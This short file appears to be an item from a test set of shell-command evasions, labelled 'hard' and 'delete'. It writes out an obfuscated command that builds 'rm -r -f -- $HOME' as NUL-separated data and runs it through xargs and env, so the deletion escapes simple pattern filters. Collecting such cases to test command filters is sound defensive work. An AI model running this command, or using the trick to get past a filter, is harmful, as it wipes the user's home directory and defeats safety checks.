# evasion: the whole command line, name included, is NUL-separated data that xargs hands to env
# grade: hard; does: delete
printf '%s\0' r"m" -r -f -- "$HOME" | xargs -0 env
